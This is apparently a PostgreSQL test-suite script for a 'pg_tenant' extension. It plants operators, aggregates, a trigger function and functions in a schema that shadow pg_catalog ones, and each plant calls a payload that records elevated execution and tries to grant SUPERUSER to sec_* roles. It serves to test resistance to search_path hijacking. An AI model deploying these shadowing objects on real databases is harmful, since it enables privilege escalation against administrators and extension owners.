-- Planted objects, run by sec_nobody: a role with LOGIN and its own schema "scratch", nothing
-- else. Every object here shadows a pg_catalog one (same signature: it wins when scratch comes
-- before pg_catalog on the search_path; an exact-type overload like quote_ident(name): it wins
-- wherever scratch is on the path) and behaves like the original, after calling scratch.pwn().
--
-- scratch.pwn() is SECURITY INVOKER: it can only do what the role running it may do. When that
-- role is not the session's own (pg_tenant switched to another role) or is a superuser or the
-- extension owner, it records a row in scratch.pwned, logs a WARNING (kept in the server log even
-- if the transaction rolls back) and tries ALTER ROLE ... SUPERUSER on every sec_* role (errors
-- swallowed: it succeeds only with elevated rights). The suite checks both afterwards.
-- Every planted function pins its own search_path, so its body resolves the real operators.
\set ON_ERROR_STOP on
SET search_path = pg_catalog;
GRANT USAGE ON SCHEMA scratch TO PUBLIC;

CREATE TABLE scratch.pwned (
    at    timestamptz NOT NULL DEFAULT clock_timestamp(),
    item  text,        -- the session's sec.item setting: which test was running
    tag   text,        -- which planted object ran
    cur   name,        -- current_user when it ran
    sess  name,        -- session_user
    super boolean      -- current_user was a superuser or the extension owner
);
GRANT SELECT, INSERT ON scratch.pwned TO PUBLIC;

CREATE FUNCTION scratch.pwn(tag text) RETURNS void
LANGUAGE plpgsql VOLATILE SECURITY INVOKER SET search_path = pg_catalog, pg_temp AS $f$
DECLARE
    item text := COALESCE(current_setting('sec.item', true), '');
    elevated boolean;
    r record;
BEGIN
    SELECT r0.rolsuper OR r0.oid = COALESCE((SELECT e.extowner FROM pg_extension e WHERE e.extname = 'pg_tenant'), 0)
      INTO elevated FROM pg_roles r0 WHERE r0.rolname = CURRENT_USER;
    elevated := COALESCE(elevated, false);
    IF NOT elevated AND CURRENT_USER = SESSION_USER THEN
        -- The attacker's own session resolved a planted object: count it (liveness control).
        PERFORM set_config('sec.hits', (COALESCE(NULLIF(current_setting('sec.hits', true), ''), '0')::int8 + 1)::text, false);
        RETURN;
    END IF;
    IF elevated THEN
        RAISE WARNING 'pg_tenant-attack: item=% tag=% ran as % (session %) with elevated rights', item, tag, CURRENT_USER, SESSION_USER;
    END IF;
    BEGIN
        INSERT INTO scratch.pwned (item, tag, cur, sess, super) VALUES (item, tag, CURRENT_USER, SESSION_USER, elevated);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    FOR r IN SELECT rolname FROM pg_roles WHERE rolname LIKE 'sec\_%' AND NOT rolsuper LOOP
        BEGIN
            EXECUTE format('ALTER ROLE %I SUPERUSER', r.rolname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END
$f$;

-- A uuid-returning bait (for planted views) and a trigger function of the attacker's.
CREATE FUNCTION scratch.pwn_uuid(tag text) RETURNS uuid
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    PERFORM scratch.pwn(tag);
    RETURN '00000000-0000-0000-0000-0000000000aa'::uuid;
END
$f$;
CREATE FUNCTION scratch.pwn_trigger() RETURNS trigger
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN
    PERFORM scratch.pwn(format('trigger %s on %s', TG_NAME, TG_TABLE_NAME));
    IF TG_LEVEL = 'STATEMENT' THEN
        RETURN NULL;
    ELSIF TG_OP = 'DELETE' THEN
        RETURN OLD;
    END IF;
    RETURN NEW;
END
$f$;

-- Operators: each behaves like pg_catalog's after calling pwn().
DO $d$
DECLARE
    o record;
BEGIN
    FOR o IN SELECT * FROM (VALUES
        ('=', 'uuid', 'uuid', 'eq_uuid'), ('=', 'text', 'text', 'eq_text'), ('=', 'oid', 'oid', 'eq_oid'),
        ('=', 'name', 'name', 'eq_name'), ('=', 'name', 'text', 'eq_name_text'), ('=', 'text', 'name', 'eq_text_name'),
        ('=', 'int8', 'int8', 'eq_int8'), ('=', 'int4', 'int4', 'eq_int4'), ('=', 'timestamptz', 'timestamptz', 'eq_tstz'),
        ('=', 'bool', 'bool', 'eq_bool'), ('<>', 'text', 'text', 'ne_text'), ('<>', 'uuid', 'uuid', 'ne_uuid'),
        ('+', 'int8', 'int8', 'pl_int8'), ('-', 'int8', 'int8', 'mi_int8'), ('<=', 'int8', 'int8', 'le_int8'),
        ('<', 'int8', 'int8', 'lt_int8'), ('>=', 'int8', 'int8', 'ge_int8'), ('>', 'int8', 'int8', 'gt_int8')
    ) AS v(op, l, r, fn)
    LOOP
        EXECUTE format($q$
            CREATE FUNCTION scratch.%I(a %s, b %s) RETURNS %s
            LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $b$
            BEGIN
                PERFORM scratch.pwn(%L);
                RETURN a %s b;
            END
            $b$$q$, o.fn, o.l, o.r, CASE WHEN o.op IN ('+', '-') THEN 'int8' ELSE 'boolean' END,
            format('operator %s(%s,%s)', o.op, o.l, o.r), o.op);
        EXECUTE format('CREATE OPERATOR scratch.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = scratch.%I)', o.op, o.l, o.r, o.fn);
    END LOOP;
END
$d$;

-- Aggregates: count(*), sum(int4), sum(int8).
CREATE FUNCTION scratch.count_step(s int8) RETURNS int8
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN PERFORM scratch.pwn('aggregate count(*)'); RETURN s + 1; END $f$;
CREATE FUNCTION scratch.count_final(s int8) RETURNS int8
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN PERFORM scratch.pwn('aggregate count(*) final'); RETURN s; END $f$;
CREATE AGGREGATE scratch.count(*) (SFUNC = scratch.count_step, STYPE = int8, INITCOND = '0', FINALFUNC = scratch.count_final);
CREATE FUNCTION scratch.sum4_step(s int8, v int4) RETURNS int8
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN PERFORM scratch.pwn('aggregate sum(int4)'); RETURN COALESCE(s, 0) + COALESCE(v, 0); END $f$;
CREATE AGGREGATE scratch.sum(int4) (SFUNC = scratch.sum4_step, STYPE = int8);
CREATE FUNCTION scratch.sum8_step(s numeric, v int8) RETURNS numeric
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $f$
BEGIN PERFORM scratch.pwn('aggregate sum(int8)'); RETURN COALESCE(s, 0) + COALESCE(v, 0); END $f$;
CREATE AGGREGATE scratch.sum(int8) (SFUNC = scratch.sum8_step, STYPE = numeric);

-- Functions: same signature as pg_catalog's, or an exact-type overload of one.
DO $d$
DECLARE
    f record;
BEGIN
    FOR f IN SELECT * FROM (VALUES
        ('quote_ident', 'a name', 'text', 'pg_catalog.quote_ident(a::text)'),      -- exact-type overload
        ('quote_ident', 'a text', 'text', 'pg_catalog.quote_ident(a)'),
        ('quote_literal', 'a text', 'text', 'pg_catalog.quote_literal(a)'),
        ('lower', 'a name', 'text', 'pg_catalog.lower(a::text)'),                  -- exact-type overload
        ('lower', 'a text', 'text', 'pg_catalog.lower(a)'),
        ('upper', 'a text', 'text', 'pg_catalog.upper(a)'),
        ('length', 'a text', 'integer', 'pg_catalog.length(a)'),
        ('format', 'a text', 'text', 'pg_catalog.format(a)'),
        ('hashtext', 'a text', 'integer', 'pg_catalog.hashtext(a)'),
        ('to_regclass', 'a text', 'regclass', 'pg_catalog.to_regclass(a)'),
        ('current_setting', 'a text', 'text', 'pg_catalog.current_setting(a)'),
        ('now', '', 'timestamptz', 'pg_catalog.now()'),
        ('clock_timestamp', '', 'timestamptz', 'pg_catalog.clock_timestamp()'),
        ('jsonb_typeof', 'a jsonb', 'text', 'pg_catalog.jsonb_typeof(a)'),
        ('array_to_string', 'a text[], b text', 'text', 'pg_catalog.array_to_string(a, b)')
    ) AS v(name, args, ret, body)
    LOOP
        EXECUTE format($q$
            CREATE FUNCTION scratch.%I(%s) RETURNS %s
            LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $b$
            BEGIN
                PERFORM scratch.pwn(%L);
                RETURN %s;
            END
            $b$$q$, f.name, f.args, f.ret, format('function %s(%s)', f.name, f.args), f.body);
    END LOOP;
END
$d$;
